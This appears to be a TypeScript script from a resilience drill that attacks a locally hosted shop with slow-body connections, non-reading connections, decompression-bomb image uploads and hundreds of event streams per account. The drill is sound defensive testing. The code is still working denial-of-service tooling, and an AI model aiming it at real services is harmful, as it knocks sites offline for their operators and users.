import { connect, type Socket } from 'node:net'
import { connect as connectSecurely } from 'node:tls'

/** The target of the attacks in a drill: the shop's URL, and the access tokens that the attackers use. */
export type Target = {
  url: string
  publishableKey: string
  /** The access token and an order of one customer. */
  customer: { token: string; orderId: string }
  /** The access tokens of unverified sellers. */
  sellers: string[]
  /**
   * Small picture files of the attackers that decode to huge pictures: one that the shop refuses, and the largest that
   * it accepts.
   */
  bombs: Uint8Array[]
}

/** The behaviour of one connection of an attack. */
type Habit = {
  says: (number: number) => Buffer
  /** The text that the connection sends every five seconds. */
  drip?: string
  reads: boolean
  /**
   * The maximum number of milliseconds after which the attacker closes a connection and opens it again. The actual
   * number is random.
   */
  renewedAfter?: number
}

/**
 * The number of milliseconds before an attacker's refused request is repeated or a closed connection is opened again.
 */
const PAUSE = 3_000
/**
 * The number of milliseconds in which an attack opens all its connections. They are spread out, because their TLS
 * handshakes also use the CPU of this machine.
 */
const OPENED_WITHIN = 10_000
const DRIP_EVERY = 5_000
/**
 * Matches the start of a response with which the attacker's request is over. A started stream has status 200 and does
 * not match.
 */
const ANSWERED = /^HTTP\/1\.1 (?!200)/
/** The local IP addresses of the attackers. */
const ADDRESSES = ['127.0.66.1', '127.0.66.2', '127.0.66.3', '127.0.66.4']

export type AttackName = keyof typeof ATTACKS

export const ATTACKS = {
  '200 connections with unfinished bodies': (target: Target) =>
    attack(target, 200, {
      says(number) {
        const paths = ['/api/cart/check', '/auth/v1/token?grant_type=password', '/nothing-here', '/api/checkout']
        const token = number % 4 === 3 ? [`authorization: Bearer ${target.customer.token}`] : []
        const head = request(target, 'POST', paths[number % 4] ?? '/', [
          ...token,
          'content-type: application/json',
          'content-length: 250000',
        ])
        // One of eight connections sends so much of its body that the shop must buffer it.
        return Buffer.concat([head, Buffer.alloc(number % 8 === 0 ? 240_000 : 1, ' ')])
      },
      drip: ' ',
      reads: true,
    }),
  '200 connections that read nothing': (target: Target) =>
    attack(target, 200, {
      says(number) {
        const claim = number % 2 ? ['authorization: Bearer x'] : []
        const asked = request(target, 'GET', '/api/openapi.json', claim)
        return number % 4 < 2 ? asked : Buffer.concat(Array<Buffer>(60).fill(asked))
      },
      reads: false,
      renewedAfter: 20_000,
    }),
  '200 uploads of small files that decompress to huge pictures': (target: Target) =>
    attack(target, 200, {
      says(number) {
        const { sellers, bombs } = target
        const path = `/storage/v1/object/seller-images/bomb-${number}-${Date.now()}.avif`
        const token = sellers[number % sellers.length]
        const bomb = bombs[Math.floor(number / sellers.length) % bombs.length] ?? new Uint8Array()
        const head = request(target, 'POST', path, [
          `authorization: Bearer ${token}`,
          'content-type: image/avif',
          `content-length: ${bomb.length}`,
        ])
        return Buffer.concat([head, bomb])
      },
      reads: true,
    }),
  '600 event streams of one account': (target: Target) =>
    attack(target, 600, {
      says: () => request(target, 'GET', '/api/events', [`authorization: Bearer ${target.customer.token}`]),
      reads: true,
    }),
}

/** Attacks the shop: keeps a number of connections open and opens a closed connection again. */
function attack(target: Target, count: number, habit: Habit): void {
  const sockets: Socket[] = []
  const open = (number: number) => {
    const say = () => {
      if (socket.writable) socket.write(habit.says(number))
    }
    const socket = connected(target, ADDRESSES[number % ADDRESSES.length] ?? '', say)
    sockets[number] = socket
    if (habit.reads)
      socket.on('data', (piece: Buffer) => {
        if (!habit.drip && ANSWERED.test(piece.toString('latin1', 0, 12))) setTimeout(say, PAUSE)
      })
    else socket.pause()
    socket.on('error', () => {})
    socket.once('close', () => setTimeout(open, PAUSE, number))
    if (habit.renewedAfter) setTimeout(() => socket.destroy(), habit.renewedAfter * Math.random())
  }
  for (let number = 0; number < count; number++) setTimeout(open, (number * OPENED_WITHIN) / count, number)
  const { drip } = habit
  if (drip)
    setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write(drip)
    }, DRIP_EVERY)
}

function connected({ url }: Target, localAddress: string, onConnected: () => void): Socket {
  const { protocol, hostname, port } = new URL(url)
  const way = { host: hostname, port: Number(port), localAddress }
  if (protocol === 'http:') return connect(way, onConnected)
  // The certificate is self-signed, so it is not verified.
  return connectSecurely({ ...way, rejectUnauthorized: false }, onConnected)
}

function request({ publishableKey }: Target, method: string, path: string, headers: string[]): Buffer {
  const lines = [`${method} ${path} HTTP/1.1`, 'host: shop', `apikey: ${publishableKey}`, ...headers, '', '']
  return Buffer.from(lines.join('\r\n'))
}
